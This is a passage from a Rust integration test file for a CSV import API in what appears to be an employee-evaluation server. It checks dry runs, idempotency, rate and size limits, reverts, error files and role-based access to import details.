//! Imports through `oneshot`: dry run, apply, idempotency, limits, states,
//! history and who may see the details.

use axum::Router;
use axum::body::Body;
use axum::http::header::{
    CONTENT_ENCODING, CONTENT_LENGTH, CONTENT_TYPE, COOKIE, RETRY_AFTER, SET_COOKIE,
};
use axum::http::{Method, Request, StatusCode};
use http_body_util::BodyExt as _;
use serde_json::{Value, json};
use sheetlink_server::Config;
use sheetlink_server::seed::{DEMO_ADMIN, DEMO_LEADER};
use tower::ServiceExt as _;

mod common;

fn server(name: &str, config: Config) -> Router {
    common::server(&format!("imports-{name}"), config).0
}

struct Reply {
    status: StatusCode,
    headers: axum::http::HeaderMap,
    body: Vec<u8>,
}

impl Reply {
    fn json(&self) -> Value {
        serde_json::from_slice(&self.body).unwrap_or(Value::Null)
    }
}

async fn send(app: &Router, request: Request<Body>) -> Reply {
    let response = app.clone().oneshot(request).await.expect("responds");
    let (status, headers) = (response.status(), response.headers().clone());
    let body = response
        .into_body()
        .collect()
        .await
        .expect("body")
        .to_bytes()
        .to_vec();
    Reply {
        status,
        headers,
        body,
    }
}

async fn sign_in(app: &Router, (login, password): (&str, &str)) -> String {
    let request = Request::post("/api/login")
        .header(CONTENT_TYPE, "application/json")
        .body(Body::from(
            json!({"login_id": login, "password": password}).to_string(),
        ))
        .expect("request");
    let reply = send(app, request).await;
    let cookie = reply
        .headers
        .get(SET_COOKIE)
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default();
    cookie.split(';').next().unwrap_or_default().to_owned()
}

async fn get(app: &Router, path: &str, cookie: &str) -> Reply {
    send(
        app,
        Request::get(path)
            .header(COOKIE, cookie)
            .body(Body::empty())
            .expect("request"),
    )
    .await
}

async fn template(app: &Router, cookie: &str, items: &[&str]) -> String {
    let request = Request::post("/api/periods/2026-h1/sheets/performance/template")
        .header(COOKIE, cookie)
        .header(CONTENT_TYPE, "application/json")
        .body(Body::from(json!({ "items": items }).to_string()))
        .expect("request");
    String::from_utf8(send(app, request).await.body).expect("UTF-8")
}

async fn import(
    app: &Router,
    cookie: &str,
    period: &str,
    csv: &str,
    key: Option<&str>,
    dry_run: bool,
) -> Reply {
    let query = if dry_run { "?dry_run=true" } else { "" };
    let mut request = Request::builder()
        .method(Method::POST)
        .uri(format!(
            "/api/periods/{period}/sheets/performance/imports{query}"
        ))
        .header(COOKIE, cookie)
        .header(CONTENT_TYPE, "text/csv");
    if let Some(key) = key {
        request = request.header("idempotency-key", key);
    }
    send(
        app,
        request.body(Body::from(csv.to_owned())).expect("request"),
    )
    .await
}

/// Replaces the row of `key` in a template with `row`.
fn with_row(template: &str, key: &str, row: &str) -> String {
    template
        .split("\r\n")
        .map(|line| {
            if line.split(',').nth(1) == Some(key) {
                row.to_owned()
            } else {
                line.to_owned()
            }
        })
        .collect::<Vec<_>>()
        .join("\r\n")
}

fn counts_add_up(counts: &Value) -> bool {
    let n = |k: &str| counts[k].as_u64().unwrap_or(u64::MAX / 8);
    n("rows_in") == n("created") + n("updated") + n("unchanged") + n("skipped") + n("failed")
}

#[tokio::test]
async fn dry_run_plans_and_apply_writes_once() {
    let app = server("apply", Config::default());
    let admin = sign_in(&app, DEMO_ADMIN).await;
    let items = ["score_total", "grade", "goal1_comment"];
    let original = template(&app, &admin, &items).await;
    // E0002 (index 1): stored score "51.1", grade "A", no comment.
    assert!(
        original.contains("\r\n鈴木 太郎,E0002,51.1,A,\r\n"),
        "{original}"
    );
    let edited = with_row(
        &original,
        "E0002",
        "鈴木 太郎,E0002,12.3456,,\"良い\"\"仕事\"\"\"",
    );

    let plan = import(&app, &admin, "2026-h1", &edited, None, true).await;
    assert_eq!(plan.status, StatusCode::OK);
    let plan = plan.json();
    assert_eq!(plan["status"], "completed");
    assert_eq!(plan["counts"]["rows_in"], 200);
    assert_eq!(plan["counts"]["updated"], 1);
    assert_eq!(plan["counts"]["unchanged"], 199);
    assert_eq!(
        plan["cells"],
        json!({"create": 1, "update": 1, "delete": 1, "unchanged": 597})
    );
    assert_eq!(plan["changes"]["next_after"], Value::Null, "one page");
    let evaluatee = plan["changes"]["evaluatees"]
        .as_array()
        .and_then(|e| e.iter().find(|e| e["key"] == "E0002"))
        .cloned()
        .unwrap_or_default();
    assert_eq!(
        evaluatee["name"], "鈴木 太郎",
        "the plan names the evaluatee"
    );
    let changes = &evaluatee["changes"];
    assert_eq!(
        changes,
        &json!([
            {"item": "score_total", "action": "update", "old": "51.1", "new": "12.35"},
            {"item": "grade", "action": "delete", "old": "A", "new": null},
            {"item": "goal1_comment", "action": "create", "old": null, "new": "良い\"仕事\""}
        ])
    );
    assert_eq!(
        template(&app, &admin, &items).await,
        original,
        "a dry run writes nothing"
    );

    assert_eq!(
        import(&app, &admin, "2026-h1", &edited, None, false)
            .await
            .status,
        StatusCode::BAD_REQUEST,
        "no Idempotency-Key"
    );
    let applied = import(&app, &admin, "2026-h1", &edited, Some("k-1"), false).await;
    assert_eq!(applied.status, StatusCode::CREATED);
    let record = applied.json();
    assert_eq!(record["status"], "completed");
    assert!(counts_add_up(&record["counts"]), "{}", record["counts"]);
    assert!(
        template(&app, &admin, &items)
            .await
            .contains("\r\n鈴木 太郎,E0002,12.35,,\"良い\"\"仕事\"\"\"\r\n")
    );

    let replay = import(&app, &admin, "2026-h1", &edited, Some("k-1"), false).await;
    assert_eq!(replay.status, StatusCode::OK);
    assert_eq!(
        replay
            .headers
            .get("idempotent-replayed")
            .and_then(|v| v.to_str().ok()),
        Some("true")
    );
    assert_eq!(replay.json()["id"], record["id"]);
    let conflict = import(&app, &admin, "2026-h1", &original, Some("k-1"), false).await;
    assert_eq!(conflict.status, StatusCode::CONFLICT);
    let history = get(&app, "/api/imports", &admin).await.json();
    assert_eq!(history.as_array().map(Vec::len), Some(1), "applied once");
}

#[tokio::test]
async fn errors_states_and_who_sees_details() {
    let app = server("states", Config::default());
    let admin = sign_in(&app, DEMO_ADMIN).await;
    let leader = sign_in(&app, DEMO_LEADER).await;
    let member = sign_in(&app, ("member", "member-pass")).await;
    let original = template(&app, &admin, &["score_total"]).await;

    // One bad cell and one unknown evaluatee: completed with errors.
    let mut edited = with_row(&original, "E0002", "x,E0002,101");
    edited.push_str("ghost,E9999,1\r\n");
    let record = import(&app, &admin, "2026-h1", &edited, Some("a"), false)
        .await
        .json();
    assert_eq!(record["status"], "completed_with_errors");
    assert_eq!(record["counts"]["failed"], 2);
    assert!(counts_add_up(&record["counts"]));
    let cells: Vec<String> = record["errors"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|e| {
            format!(
                "{}{}:{}",
                e["column_letter"].as_str().unwrap_or("?"),
                e["row"],
                e["code"].as_str().unwrap_or("?")
            )
        })
        .collect();
    assert_eq!(cells, ["C6:number.above_max", "B205:evaluatee.unknown"]);

    // The error file: the failed rows with their messages, to fix and upload again.
    let id = record["id"].as_str().unwrap_or_default().to_owned();
    let error_file = get(&app, &format!("/api/imports/{id}/error-file"), &admin).await;
    assert_eq!(error_file.status, StatusCode::OK);
    let text = String::from_utf8(error_file.body).expect("UTF-8");
    let rows: Vec<&str> = text.split("\r\n").filter(|l| !l.is_empty()).collect();
    assert_eq!(rows.len(), 6, "rows 1-4 and the two failed rows: {text}");
    assert!(rows[1].ends_with(",#errors"));
    assert!(rows[4].starts_with("x,E0002,101,C6: "), "{}", rows[4]);
    assert!(rows[5].starts_with("ghost,E9999,1,B205: "), "{}", rows[5]);
    let fixed: Vec<&str> = rows[..4]
        .iter()
        .copied()
        .chain(std::iter::once("x,E0002,50,"))
        .collect();
    let fixed = fixed.join("\r\n") + "\r\n";
    assert_eq!(
        import(&app, &admin, "2026-h1", &fixed, Some("fixed"), false)
            .await
            .json()["status"],
        "completed"
    );
    assert_eq!(
        get(&app, &format!("/api/imports/{id}/error-file"), &member)
            .await
            .status,
        StatusCode::FORBIDDEN
    );

    // A leader's rows outside the leader's groups fail; the others apply.
    let leader_file = template(&app, &leader, &["score_total"]).await;
    let mut with_outsider = leader_file.clone();
    with_outsider.push_str("開発 花子,E0003,1\r\n");
    let by_leader = import(&app, &leader, "2026-h1", &with_outsider, Some("b"), false)
        .await
        .json();
    assert_eq!(by_leader["status"], "completed_with_errors");
    assert!(
        by_leader["errors"]
            .as_array()
            .is_some_and(|e| e.iter().any(|e| e["code"] == "evaluatee.unknown")),
        "out of scope reads like unknown"
    );

    // Every row failing: all failed. A broken header: all failed too.
    let all_bad = format!(
        "{}\r\n",
        original
            .split("\r\n")
            .take(4)
            .collect::<Vec<_>>()
            .join("\r\n")
    ) + "x,E0001,abc\r\n";
    assert_eq!(
        import(&app, &admin, "2026-h1", &all_bad, Some("c"), false)
            .await
            .json()["status"],
        "all_failed"
    );
    let broken = original.replacen("version:1", "version:9", 1);
    let rejected = import(&app, &admin, "2026-h1", &broken, Some("d"), false)
        .await
        .json();
    assert_eq!(rejected["status"], "all_failed");
    assert_eq!(rejected["errors"][0]["code"], "header.cell");

    // 50 evaluatees with errors: aborted, nothing applied.
    let mut many_bad = original
        .split("\r\n")
        .take(4)
        .collect::<Vec<_>>()
        .join("\r\n")
        + "\r\n";
    for i in 1..=60 {
        many_bad.push_str(&format!(
            "x,E{i:04},{}\r\n",
            if i <= 50 { "bad" } else { "1" }
        ));
    }
    let aborted = import(&app, &admin, "2026-h1", &many_bad, Some("e"), false)
        .await
        .json();
    assert_eq!(aborted["status"], "aborted");
    assert!(counts_add_up(&aborted["counts"]));
    assert_eq!(
        aborted["counts"]["skipped"], 0,
        "the engine stops reading at the 50th errored evaluatee"
    );

    // Closed periods cannot be imported.
    let closed = import(&app, &admin, "2025-h2", &original, Some("f"), false).await;
    assert_eq!(closed.status, StatusCode::FORBIDDEN);

    // Everyone sees the list, newest first; details only admins and the operator.
    let list = get(&app, "/api/imports", &member).await;
    assert_eq!(list.status, StatusCode::OK);
    let list = list.json();
    let ids: Vec<String> = list
        .as_array()
        .into_iter()
        .flatten()
        .map(|l| l["id"].as_str().unwrap_or_default().to_owned())
        .collect();
    assert_eq!(ids.len(), 6);
    assert_eq!(list[0]["sheet_name"], "業績評価シート");
    assert!(ids.windows(2).all(|w| w[0] > w[1]), "newest first");
    let admins_import = &record["id"].as_str().unwrap_or_default().to_owned();
    let leaders_import = &by_leader["id"].as_str().unwrap_or_default().to_owned();
    let cases = [
        (&admin, leaders_import, StatusCode::OK),
        (&leader, leaders_import, StatusCode::OK),
        (&leader, admins_import, StatusCode::FORBIDDEN),
        (&member, leaders_import, StatusCode::FORBIDDEN),
        (&admin, &"nosuch".to_owned(), StatusCode::NOT_FOUND),
    ];
    for (cookie, id, expected) in cases {
        let reply = get(&app, &format!("/api/imports/{id}"), cookie).await;
        assert_eq!(reply.status, expected, "{id}");
        if expected == StatusCode::FORBIDDEN {
            assert!(reply.json().get("import").is_none(), "no details leak");
        }
    }
}

#[tokio::test]
async fn limits_size_rate_gzip_and_timeout() {
    let app = server("limits", Config::default());
    let admin = sign_in(&app, DEMO_ADMIN).await;
    let csv = template(&app, &admin, &["grade"]).await;

    // Declared too large: refused before the body is read.
    let request = Request::post("/api/periods/2026-h1/sheets/performance/imports")
        .header(COOKIE, &admin)
        .header(CONTENT_LENGTH, (30 * 1024 * 1024 + 1).to_string())
        .header("idempotency-key", "big")
        .body(Body::empty())
        .expect("request");
    assert_eq!(
        send(&app, request).await.status,
        StatusCode::PAYLOAD_TOO_LARGE
    );

    // gzip bodies are inflated.
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut gz, csv.as_bytes()).expect("gzip");
    let request = Request::post("/api/periods/2026-h1/sheets/performance/imports")
        .header(COOKIE, &admin)
        .header(CONTENT_ENCODING, "gzip")
        .header("idempotency-key", "gz")
        .body(Body::from(gz.finish().expect("gzip")))
        .expect("request");
    let reply = send(&app, request).await;
    assert_eq!(
        (reply.status, reply.json()["status"].clone()),
        (StatusCode::CREATED, json!("completed"))
    );

    // Ten imports in an hour, then 429 with when to retry.
    for i in 1..10 {
        let reply = import(&app, &admin, "2026-h1", &csv, Some(&format!("n{i}")), false).await;
        assert_eq!(reply.status, StatusCode::CREATED, "import {i}");
    }
    let eleventh = import(&app, &admin, "2026-h1", &csv, Some("n10"), false).await;
    assert_eq!(eleventh.status, StatusCode::TOO_MANY_REQUESTS);
    let retry_after: u64 = eleventh
        .headers
        .get(RETRY_AFTER)
        .and_then(|v| v.to_str().ok())
        .and_then(|v| v.parse().ok())
        .unwrap_or(0);
    assert!((3500..=3600).contains(&retry_after), "{retry_after}");
    assert!(
        eleventh.json()["message"]
            .as_str()
            .is_some_and(|m| m.contains("10"))
    );
    // Dry runs and replays do not count.
    assert_eq!(
        import(&app, &admin, "2026-h1", &csv, None, true)
            .await
            .status,
        StatusCode::OK
    );
    assert_eq!(
        import(&app, &admin, "2026-h1", &csv, Some("n1"), false)
            .await
            .status,
        StatusCode::OK
    );

    // A time limit of zero: timed out before the first evaluatee, all skipped.
    let quick = server(
        "timeout",
        Config {
            import_timeout_secs: 0,
            ..Config::default()
        },
    );
    let admin = sign_in(&quick, DEMO_ADMIN).await;
    let csv = template(&quick, &admin, &["grade"]).await;
    let record = import(&quick, &admin, "2026-h1", &csv, Some("t"), false)
        .await
        .json();
    assert_eq!(record["status"], "timed_out");
    assert_eq!(record["counts"]["skipped"], 200);
    assert!(counts_add_up(&record["counts"]));
}

async fn revert(app: &Router, cookie: &str, id: &str) -> Reply {
    let request = Request::post(format!("/api/imports/{id}/revert"))
        .header(COOKIE, cookie)
        .body(Body::empty())
        .expect("request");
    send(app, request).await
}

#[tokio::test]
async fn revert_restores_overwritten_values_or_refuses_with_the_cells() {
    let app = server("revert", Config::default());
    let admin = sign_in(&app, DEMO_ADMIN).await;
    let leader = sign_in(&app, DEMO_LEADER).await;
    let items = ["score_total", "grade"];
    let original = template(&app, &admin, &items).await;

    let first = with_row(&original, "E0002", "x,E0002,10,S");
    let first_id = import(&app, &admin, "2026-h1", &first, Some("r1"), false)
        .await
        .json()["id"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    assert_eq!(
        revert(&app, &leader, &first_id).await.status,
        StatusCode::FORBIDDEN,
        "not the leader's import"
    );
    let undone = revert(&app, &admin, &first_id).await;
    assert_eq!(undone.status, StatusCode::OK);
    assert_eq!(undone.json()["restored_cells"], 2);
    assert_eq!(
        template(&app, &admin, &items).await,
        original,
        "overwritten values are back, not just deleted"
    );
    assert_eq!(
        revert(&app, &admin, &first_id).await.status,
        StatusCode::CONFLICT,
        "only once"
    );

    // A later import touches one of the cells: reverting the earlier one would lose it.
    let second_id = import(&app, &admin, "2026-h1", &first, Some("r2"), false)
        .await
        .json()["id"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    let later = with_row(&original, "E0002", "x,E0002,10,B");
    assert_eq!(
        import(&app, &admin, "2026-h1", &later, Some("r3"), false)
            .await
            .status,
        StatusCode::CREATED
    );
    let refused = revert(&app, &admin, &second_id).await;
    assert_eq!(refused.status, StatusCode::CONFLICT);
    assert_eq!(
        refused.json()["conflicts"],
        json!([{"member": "e0002", "member_name": "鈴木 太郎", "item": "grade", "imported": "S", "now": "B"}])
    );
    assert!(
        template(&app, &admin, &items)
            .await
            .contains("\r\n鈴木 太郎,E0002,10,B\r\n"),
        "nothing was reverted"
    );
}

#[tokio::test]
async fn the_50th_errored_evaluatee_aborts_and_members_cannot_import() {
    let app = server("boundary", Config::default());
    let admin = sign_in(&app, DEMO_ADMIN).await;
    let member = sign_in(&app, ("member", "member-pass")).await;
    let header = template(&app, &admin, &["score_total"])
        .await
        .split("\r\n")
        .take(4)
        .collect::<Vec<_>>()
        .join("\r\n");
    // Sixty evaluatees with employee numbers (every tenth demo member has an e-mail only).
    let keys: Vec<String> = (1..)
        .filter(|i| i % 10 != 0)
        .take(60)
        .map(|i| format!("E{i:04}"))
        .collect();
    let file = |bad: usize| {
        let mut file = format!("{header}\r\n");
        for (index, key) in keys.iter().enumerate() {
            file.push_str(&format!(
                "x,{key},{}\r\n",
                if index < bad { "bad" } else { "1" }
            ));
        }
        file
    };
    let forty_nine = import(&app, &admin, "2026-h1", &file(49), Some("49"), false)
        .await
        .json();
    assert_eq!(forty_nine["status"], "completed_with_errors");
    assert_eq!(forty_nine["counts"]["failed"], 49);
    assert!(counts_add_up(&forty_nine["counts"]));
    let fifty = import(&app, &admin, "2026-h1", &file(50), Some("50"), false)
        .await
        .json();
    assert_eq!(fifty["status"], "aborted");
    assert_eq!(fifty["counts"]["failed"], 50);
    assert!(counts_add_up(&fifty["counts"]));

    for (method, path) in [
        (
            Method::POST,
            "/api/periods/2026-h1/sheets/performance/imports",
        ),
        (
            Method::POST,
            "/api/periods/2026-h1/sheets/performance/template",
        ),
        (
            Method::GET,
            "/api/periods/2026-h1/sheets/performance/schema",
        ),
    ] {
        let request = Request::builder()
            .method(method)
            .uri(path)
            .header(COOKIE, &member)
            .header(CONTENT_TYPE, "application/json")
            .header("idempotency-key", "m")
            .body(Body::from(r#"{"items": ["score_total"]}"#))
            .expect("request");
        assert_eq!(
            send(&app, request).await.status,
            StatusCode::FORBIDDEN,
            "{path}"
        );
    }
}

#[tokio::test]
async fn concurrent_retries_of_one_key_apply_once() {
    let app = server("concurrent", Config::default());
    let admin = sign_in(&app, DEMO_ADMIN).await;
    let original = template(&app, &admin, &["score_total"]).await;
    let edited = with_row(&original, "E0002", "x,E0002,33");
    let (first, second, third) = tokio::join!(
        import(&app, &admin, "2026-h1", &edited, Some("same"), false),
        import(&app, &admin, "2026-h1", &edited, Some("same"), false),
        import(&app, &admin, "2026-h1", &edited, Some("same"), false),
    );
    let mut statuses = [first.status, second.status, third.status];
    statuses.sort();
    assert_eq!(
        statuses,
        [StatusCode::OK, StatusCode::OK, StatusCode::CREATED],
        "one applies, two replay"
    );
    let ids: Vec<Value> = [&first, &second, &third]
        .iter()
        .map(|r| r.json()["id"].clone())
        .collect();
    assert!(ids.iter().all(|id| *id == ids[0]), "{ids:?}");
    let history = get(&app, "/api/imports", &admin).await.json();
    assert_eq!(history.as_array().map(Vec::len), Some(1));
}

#[tokio::test]
async fn e_mail_keys_match_whatever_their_case() {
    let app = server("email-case", Config::default());
    let admin = sign_in(&app, DEMO_ADMIN).await;
    let original = template(&app, &admin, &["score_total"]).await;
    // Every tenth demo member has no employee number: the e-mail is the key.
    assert!(
        original.contains(",member0010@example.co.jp,"),
        "{original}"
    );
    let edited = with_row(
        &original,
        "member0010@example.co.jp",
        "小林 太郎,Member0010@Example.CO.JP,88",
    );
    let plan = import(&app, &admin, "2026-h1", &edited, None, true)
        .await
        .json();
    let counts = &plan["counts"];
    assert_eq!(counts["failed"], 0, "{counts}");
    assert_eq!(counts["created"], 1, "the member's first score: {counts}");
    let applied = import(&app, &admin, "2026-h1", &edited, Some("email-case"), false).await;
    assert_eq!(applied.json()["status"], "completed");
    assert!(
        template(&app, &admin, &["score_total"])
            .await
            .contains(",member0010@example.co.jp,88\r\n")
    );
}

fn header_of(template: &str) -> String {
    template
        .split("\r\n")
        .take(4)
        .collect::<Vec<_>>()
        .join("\r\n")
        + "\r\n"
}

#[tokio::test]
async fn out_of_scope_reads_like_unknown_and_server_refusals_count_to_the_abort() {
    let app = server("scope", Config::default());
    let admin = sign_in(&app, DEMO_ADMIN).await;
    let leader = sign_in(&app, DEMO_LEADER).await;
    let header = header_of(&template(&app, &leader, &["score_total"]).await);
    // E0003 exists (開発部, outside the leader's groups); E9999 does not.
    let probe = format!("{header}x,E0003,1\r\nx,E9999,1\r\n");
    let plan = import(&app, &leader, "2026-h1", &probe, None, true)
        .await
        .json();
    let errors = plan["errors"].as_array().cloned().unwrap_or_default();
    assert_eq!(errors.len(), 2, "{plan}");
    let shape = |e: &Value| {
        let key = if e["row"] == 5 { "E0003" } else { "E9999" };
        (
            e["code"].clone(),
            e["message"]
                .as_str()
                .unwrap_or_default()
                .replace(key, "KEY"),
        )
    };
    assert_eq!(shape(&errors[0]), shape(&errors[1]), "{errors:?}");
    assert_eq!(errors[0]["code"], "evaluatee.unknown");

    // Fifty evaluatees the server refuses (unknown), valid to the engine.
    let header = header_of(&template(&app, &admin, &["score_total"]).await);
    let mut unknown = header.clone();
    for n in 0..50 {
        unknown.push_str(&format!("x,Z{n:04},1\r\n"));
    }
    unknown.push_str("x,E0002,1\r\n");
    let aborted = import(&app, &admin, "2026-h1", &unknown, Some("u50"), false)
        .await
        .json();
    assert_eq!(aborted["status"], "aborted", "{}", aborted["counts"]);
    assert!(counts_add_up(&aborted["counts"]));
}

#[tokio::test]
async fn refused_files_use_none_of_the_hourly_limit() {
    let app = server("quota", Config::default());
    let admin = sign_in(&app, DEMO_ADMIN).await;
    let csv = template(&app, &admin, &["grade"]).await;
    let broken = "version:1,period:2026-h1,sheet:performance\r\nnot a header\r\n";
    for i in 0..12 {
        let reply = import(
            &app,
            &admin,
            "2026-h1",
            broken,
            Some(&format!("bad{i}")),
            false,
        )
        .await;
        assert_eq!(reply.status, StatusCode::CREATED, "recorded");
        assert_eq!(reply.json()["status"], "all_failed");
    }
    let good = import(&app, &admin, "2026-h1", &csv, Some("good"), false).await;
    assert_eq!(
        good.status,
        StatusCode::CREATED,
        "{}",
        String::from_utf8_lossy(&good.body)
    );
    // The history gives each import's end time.
    let history = get(&app, "/api/imports", &admin).await.json();
    let lines = history.as_array().cloned().unwrap_or_default();
    assert_eq!(lines.len(), 13);
    assert!(
        lines.iter().all(|l| l["ended_at"].as_u64().is_some()),
        "{history}"
    );
}

#[tokio::test]
async fn schemas_are_not_cached_and_closed_periods_give_no_template() {
    let app = server("closed", Config::default());
    let admin = sign_in(&app, DEMO_ADMIN).await;
    let schema = get(
        &app,
        "/api/periods/2026-h1/sheets/performance/schema",
        &admin,
    )
    .await;
    assert_eq!(schema.status, StatusCode::OK);
    assert_eq!(schema.headers["cache-control"], "no-store");
    let request = Request::post("/api/periods/2025-h2/sheets/performance/template")
        .header(COOKIE, &admin)
        .header(CONTENT_TYPE, "application/json")
        .body(Body::from(json!({ "items": ["grade"] }).to_string()))
        .expect("request");
    let closed = send(&app, request).await;
    assert_eq!(closed.status, StatusCode::FORBIDDEN);
    // One error body: the message in Japanese and in English, apart.
    let body = closed.json();
    let (message, message_en) = (
        body["message"].as_str().unwrap_or_default(),
        body["message_en"].as_str().unwrap_or_default(),
    );
    assert!(
        message.contains("締め切") && message_en.contains("closed"),
        "{body}"
    );
    assert_eq!(body["error"], "period_closed");
}

#[tokio::test]
async fn revert_rechecks_scope_like_an_import() {
    let (app, store) = common::server("imports-revert-scope", Config::default());
    let leader = sign_in(&app, DEMO_LEADER).await;
    let original = template(&app, &leader, &["score_total"]).await;
    let first = original
        .split("\r\n")
        .nth(4)
        .expect("a row in scope")
        .to_owned();
    let key = first.split(',').nth(1).expect("a key").to_owned();
    let edited = with_row(&original, &key, &format!("x,{key},77"));
    let done = import(&app, &leader, "2026-h1", &edited, Some("s1"), false)
        .await
        .json();
    assert_eq!(done["status"], "completed", "{done}");
    let id = done["id"].as_str().expect("id").to_owned();
    // The evaluatee moves to another group: out of the leader's scope.
    store.with_db(|db| {
        use sheetlink_server::model::Member;
        let members: Vec<(String, Member)> = sheetlink_server::store::scan_json(
            db,
            sheetlink_server::store::tables::MEMBERS,
            "demo/",
        )
        .expect("reads");
        let (member_key, mut member) = members
            .into_iter()
            .find(|(_, m)| m.employee_number.as_deref() == Some(key.as_str()))
            .expect("the evaluatee");
        member.groups = vec!["dev".into()];
        sheetlink_server::store::put_json(
            db,
            sheetlink_server::store::tables::MEMBERS,
            &member_key,
            &member,
        )
        .expect("writes");
    });
    let refused = revert(&app, &leader, &id).await;
    assert_eq!(
        refused.status,
        StatusCode::FORBIDDEN,
        "{}",
        String::from_utf8_lossy(&refused.body)
    );
    let cells = refused.json()["cells"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    assert_eq!(cells.len(), 1, "{cells:?}");
    assert_eq!(cells[0]["item"], "score_total");
    let admin = sign_in(&app, DEMO_ADMIN).await;
    assert!(
        template(&app, &admin, &["score_total"])
            .await
            .contains(&format!(",{key},77\r\n")),
        "nothing was reverted"
    );
}

/// An import keeps its first 1,000 errors apart from its record, with exact
/// totals per code; the error file still has every failed row; the history
/// lists the record without reading its errors.
#[tokio::test]
async fn stored_errors_are_bounded_with_exact_totals() {
    use sheetlink_server::model::{CustomizeSheet, SheetItem};
    use sheetlink_server::store::tables::SHEETS;
    use sheetlink_server::store::{get_json, put_json};
    let (app, store) = common::server("imports-stored-errors", Config::default());
    // 30 more number items, so that 49 evaluatees (one short of the abort)
    // make well over 1,000 errors.
    let extra: Vec<String> = (1..=30).map(|i| format!("extra{i}")).collect();
    store.with_db(|db| {
        let key = format!("{}/performance", sheetlink_server::seed::DEMO_TENANT);
        let mut sheet: CustomizeSheet = get_json(db, SHEETS, &key).expect("reads").expect("exists");
        let template_item = sheet.items[0].clone();
        for id in &extra {
            let mut item: SheetItem = template_item.clone();
            if let Some(importable) = item.importable.as_mut() {
                importable.id = id.clone();
                importable.label = vec!["追加".into(), id.clone()];
            }
            sheet.items.push(item);
        }
        put_json(db, SHEETS, &key, &sheet).expect("writes");
    });
    let admin = sign_in(&app, DEMO_ADMIN).await;
    let ids: Vec<&str> = extra.iter().map(String::as_str).collect();
    let original = template(&app, &admin, &ids).await;
    let mut lines: Vec<String> = original.split("\r\n").take(4).map(str::to_owned).collect();
    for line in original.split("\r\n").skip(4).take(49) {
        let mut cells: Vec<&str> = line.split(',').take(2).collect();
        cells.extend(std::iter::repeat_n("x", 30));
        lines.push(cells.join(","));
    }
    let csv = lines.join("\r\n") + "\r\n";
    let answer = import(&app, &admin, "2026-h1", &csv, Some("many-errors"), false).await;
    assert_eq!(answer.status, StatusCode::CREATED, "{:?}", answer.json());
    let record = answer.json();
    assert_eq!(record["status"], "all_failed");
    assert_eq!(record["error_totals"]["number.invalid"], 49 * 30);
    assert_eq!(record["errors_truncated"], true);
    assert_eq!(record["errors"].as_array().map(Vec::len), Some(1_000));

    let id = record["id"].as_str().expect("id").to_owned();
    let details = get(&app, &format!("/api/imports/{id}"), &admin)
        .await
        .json();
    assert_eq!(
        details["import"]["errors"].as_array().map(Vec::len),
        Some(1_000)
    );
    assert_eq!(details["import"]["error_totals"]["number.invalid"], 49 * 30);
    assert_eq!(details["import"]["errors"][0]["row"], 5);
    assert_eq!(details["import"]["errors"][999]["row"], 5 + 999 / 30);

    // Every failed row is in the error file, with every message.
    let file = get(&app, &format!("/api/imports/{id}/error-file"), &admin).await;
    let text = String::from_utf8(file.body).expect("UTF-8");
    assert_eq!(
        text.matches("number.invalid").count(),
        0,
        "messages, not codes"
    );
    let data_rows = text.split("\r\n").skip(4).filter(|l| !l.is_empty()).count();
    assert!(data_rows >= 49, "every failed row: {data_rows} lines");
    let last_key = lines[52].split(',').nth(1).expect("a key");
    assert!(
        text.contains(last_key),
        "the 49th failed row is in the error file"
    );

    // The stored record itself holds no errors; the history lists it.
    let stored: serde_json::Value = store.with_db(|db| {
        get_json(
            db,
            sheetlink_server::store::tables::IMPORTS,
            &format!("{}/{id}", sheetlink_server::seed::DEMO_TENANT),
        )
        .expect("reads")
        .expect("exists")
    });
    assert!(stored.get("errors").is_none(), "{stored}");
    let history = get(&app, "/api/imports", &admin).await.json();
    assert_eq!(history[0]["id"], id.as_str());
}

/// A dry run answers every total at once and its changed cells page by
/// page, to the member who ran it only.
#[tokio::test]
async fn dry_runs_answer_totals_at_once_and_cells_page_by_page() {
    let app = server("dry-run-pages", Config::default());
    let admin = sign_in(&app, DEMO_ADMIN).await;
    let leader = sign_in(&app, DEMO_LEADER).await;
    let items = ["goal1_comment", "score_total"];
    let original = template(&app, &admin, &items).await;
    let with_comment = |text: &str| {
        original
            .split("\r\n")
            .enumerate()
            .map(|(index, line)| {
                let cells: Vec<&str> = line.split(',').collect();
                if index < 4 || cells.len() < 4 {
                    line.to_owned()
                } else {
                    format!("{},{},{text},{}", cells[0], cells[1], cells[3])
                }
            })
            .collect::<Vec<_>>()
            .join("\r\n")
    };
    // Long old and new values: 200 evaluatees × 2 × 1,200 bytes of cells
    // need more than one page.
    let first = with_comment(&"あ".repeat(400));
    let applied = import(&app, &admin, "2026-h1", &first, Some("long-1"), false).await;
    assert_eq!(applied.status, StatusCode::CREATED, "{:?}", applied.json());
    let second = with_comment(&"い".repeat(400));
    let answer = import(&app, &admin, "2026-h1", &second, None, true).await;
    assert_eq!(answer.status, StatusCode::OK);
    assert!(
        answer.body.len() < 1_000_000,
        "first answer {} bytes",
        answer.body.len()
    );
    let plan = answer.json();
    assert_eq!(plan["counts"]["updated"], 200);
    assert_eq!(plan["cells"]["update"], 200);
    assert_eq!(plan["cells"]["unchanged"], 200);
    assert_eq!(
        plan["evaluatees"]["row"].as_array().map(Vec::len),
        Some(200)
    );
    assert_eq!(plan["evaluatees"]["update"][0], 1);
    assert_eq!(plan["evaluatees"]["unchanged"][0], 1);
    assert_eq!(
        plan["items"],
        json!([
            {"item": "goal1_comment", "create": 0, "update": 200, "delete": 0, "unchanged": 0},
            {"item": "score_total", "create": 0, "update": 0, "delete": 0, "unchanged": 200}
        ])
    );
    let id = plan["id"].as_str().expect("a plan id").to_owned();
    let mut rows: Vec<u64> = Vec::new();
    let mut page = plan["changes"].clone();
    let mut pages = 1;
    loop {
        for evaluatee in page["evaluatees"].as_array().into_iter().flatten() {
            rows.push(evaluatee["row"].as_u64().expect("row"));
            assert_eq!(evaluatee["changes"][0]["old"], "あ".repeat(400));
            assert_eq!(evaluatee["changes"][0]["new"], "い".repeat(400));
        }
        let Some(after) = page["next_after"].as_u64() else {
            break;
        };
        let next = get(&app, &format!("/api/dry-runs/{id}?after={after}"), &admin).await;
        assert_eq!(next.status, StatusCode::OK);
